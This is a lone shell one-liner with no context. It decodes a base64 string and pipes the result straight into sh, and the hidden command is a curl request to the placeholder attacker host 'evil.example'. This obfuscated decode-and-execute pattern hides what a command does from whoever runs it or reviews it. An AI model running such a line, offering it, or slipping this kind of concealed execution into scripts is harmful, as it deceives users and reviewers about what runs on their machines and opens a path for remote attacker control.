echo "Y3VybCBodHRwOi8vZXZpbC5leGFtcGxlCg==" | base64 -d | sh
